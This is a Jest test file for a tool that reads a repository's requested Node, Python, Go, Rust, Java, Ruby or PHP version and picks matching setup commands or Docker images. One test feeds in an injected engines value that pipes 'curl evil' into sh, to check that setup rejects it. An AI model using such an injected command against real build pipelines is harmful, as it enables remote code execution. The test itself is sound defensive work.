// Which version of its language a repository asks for, and whether what is there will do.
import { describe, expect, it } from "@jest/globals";
import { NO_RULES, Rules } from "../../../src/domain/rules.ts";
import { TOOLCHAINS } from "../../../worker/toolchains/index.ts";
import { imageWith } from "../../../worker/toolchains/program.ts";
import { recognise } from "../../../worker/toolchains/recognise.ts";
import { isHeld } from "../../../worker/toolchains/versions.ts";
import { aTree } from "./told.ts";

const askedIn = async (files: Record<string, string>) =>
  (await recognise(aTree(files), NO_RULES))?.versions.map(({ program, from, asked, range }) => [
    program,
    from,
    asked,
    range,
  ]);

const node = (more: object = {}) => ({
  "package.json": JSON.stringify({ scripts: { test: "node --test" }, ...more }),
});
const python = { "test_a.py": "" };

describe("a repository", () => {
  it.each<[string, Record<string, string>, string[][]]>([
    ["Node by .nvmrc", { ...node(), ".nvmrc": "v18\n" }, [["Node", ".nvmrc", "v18", "^18"]]],
    [
      "Node by a name of a release line",
      { ...node(), ".nvmrc": "lts/hydrogen" },
      [["Node", ".nvmrc", "lts/hydrogen", "^18"]],
    ],
    ["any Node", { ...node(), ".nvmrc": "lts/*" }, []],
    [
      "Node by .node-version",
      { ...node(), ".node-version": "# ours\n20.11.1" },
      [["Node", ".node-version", "20.11.1", "^20.11.1"]],
    ],
    [
      "Node by .tool-versions",
      { ...node(), ".tool-versions": "nodejs 16.20.2\n" },
      [["Node", ".tool-versions", "16.20.2", "^16.20.2"]],
    ],
    [
      "Node by engines",
      node({ engines: { node: ">=18 <21" } }),
      [["Node", "package.json", ">=18 <21", ">=18 <21"]],
    ],
    [
      "Node by Volta",
      node({ volta: { node: "22.1.0" }, engines: { node: "*" } }),
      [["Node", "package.json", "22.1.0", "^22.1.0"]],
    ],
    ["nothing that can be read", node({ engines: { node: "the newest" } }), []],
    ["something of another shape", node({ engines: "18" }), []],
    [
      "Python by .python-version",
      { ...python, ".python-version": "3.11.4" },
      [["Python", ".python-version", "3.11.4", "~3.11"]],
    ],
    [
      "Python by requires-python",
      { ...python, "pyproject.toml": '[project]\nrequires-python = ">=3.9,<3.13,!=3.10.*"\n' },
      [["Python", "pyproject.toml", ">=3.9,<3.13,!=3.10.*", ">=3.9 <3.13"]],
    ],
    [
      "Python by Poetry",
      { ...python, "pyproject.toml": '[tool.poetry.dependencies]\nx = "1"\npython = "^3.12"\n' },
      [["Python", "pyproject.toml", "^3.12", "^3.12"]],
    ],
    ["Go", { "go.mod": "module x\n\ngo 1.22\n" }, [["Go", "go.mod", "1.22", ">=1.22"]]],
    [
      "Rust by its toolchain",
      { "Cargo.toml": "", "rust-toolchain.toml": '[toolchain]\nchannel = "1.70.0"\n' },
      [["Rust", "rust-toolchain.toml", "1.70.0", "~1.70"]],
    ],
    [
      "Rust by the older file, written like the newer one",
      { "Cargo.toml": "", "rust-toolchain": '[toolchain]\nchannel = "1.70.0"\n' },
      [["Rust", "rust-toolchain", "1.70.0", "~1.70"]],
    ],
    ["Rust by the channel that moves", { "Cargo.toml": "", "rust-toolchain": "stable\n" }, []],
    [
      "Rust by Cargo.toml",
      { "Cargo.toml": 'rust-version = "1.74"\n' },
      [["Rust", "Cargo.toml", "1.74", ">=1.74"]],
    ],
    [
      "Java by Maven",
      { "pom.xml": "<maven.compiler.release>17</maven.compiler.release>" },
      [["Java", "pom.xml", "17", ">=17"]],
    ],
    [
      "Java as it was once counted",
      { "pom.xml": "<maven.compiler.source>1.8</maven.compiler.source>" },
      [["Java", "pom.xml", "1.8", ">=8"]],
    ],
    [
      "Java by Gradle",
      { "build.gradle.kts": "languageVersion = JavaLanguageVersion.of(17)" },
      [["Java", "build.gradle.kts", "17", "^17"]],
    ],
    ["Ruby", { Gemfile: "ruby '~> 3.2'\n", "test/a_test.rb": "" }, [["Ruby", "Gemfile", "~> 3.2", "^3.2"]]],
    [
      "Ruby by .ruby-version",
      { Gemfile: "", ".ruby-version": "ruby-3.2.2" },
      [["Ruby", ".ruby-version", "ruby-3.2.2", "~3.2"]],
    ],
    [
      "PHP",
      { "composer.json": '{"require":{"php":"^7.4|~8.1"}}' },
      [["PHP", "composer.json", "^7.4|~8.1", "^7.4 || ^8.1"]],
    ],
  ])("asks for %s", async (_what, files, asked) => {
    expect(await askedIn(files)).toEqual(asked);
  });

  it("asks for nothing where its rules name the image", async () => {
    const tree = aTree({ ...node(), ".nvmrc": "18" });
    expect((await recognise(tree, Rules.parse({ image: "ours:1" })))?.versions).toEqual([]);
  });

  it("has set-up bring the Node it asks for, with an npm that runs on it", async () => {
    const [first] = (await recognise(aTree({ ...node(), ".nvmrc": "18" }), NO_RULES))?.setup ?? [];
    expect(first).toContain("node-linux-$(node -p process.arch)@^18");
    const hostile = node({ engines: { node: "18'; curl evil | sh; '" } });
    expect((await recognise(aTree(hostile), NO_RULES))?.setup).toEqual([]);
  });
});

describe("what a program prints", () => {
  it.each<[string, string, boolean]>([
    ["v24.1.0\n", ">=18", true],
    ["v24.1.0\n", "^18", false],
    ["Python 3.13.5", "~3.11", false],
    ["Python 3.13.5", ">=3.9 <3.14", true],
    ["go version go1.24.4 linux/amd64", ">=1.22", true],
    ["openjdk 21.0.7 2025-04-15", "^17", false],
    ["PHP 8.4.1 (cli)", "^7.4 || ^8.1", true],
    ["sh: 1: node: not found", ">=18", false],
  ])("%j will do for %s: %j", (printed, range, held) => {
    expect(isHeld({ range }, printed)).toBe(held);
  });
});

describe("the image for a version that is not there", () => {
  it("is the official one where the file begins with a version", () => {
    const image = (name: string, asked: string, from = "") =>
      TOOLCHAINS.flatMap(({ program }) =>
        program?.program === name ? imageWith(program, { asked, from }) : [],
      )[0];
    expect([
      image("Node", "v18.20.1"),
      image("Python", ">=3.9,<3.12"),
      image("Go", "1.21.3"),
      image("Rust", "1.75"),
      image("Ruby", "~> 3.2.1"),
      image("PHP", "^8.1"),
      image("Java", "1.8", "pom.xml"),
      image("Java", "17", "build.gradle"),
      image("Python", "<3.12"),
    ]).toEqual([
      "node:18",
      "python:3.9",
      "golang:1.21",
      "rust:1.75",
      "ruby:3.2",
      "php:8.1-cli",
      "maven:3-eclipse-temurin-8",
      "gradle:jdk17",
      null,
    ]);
  });
});
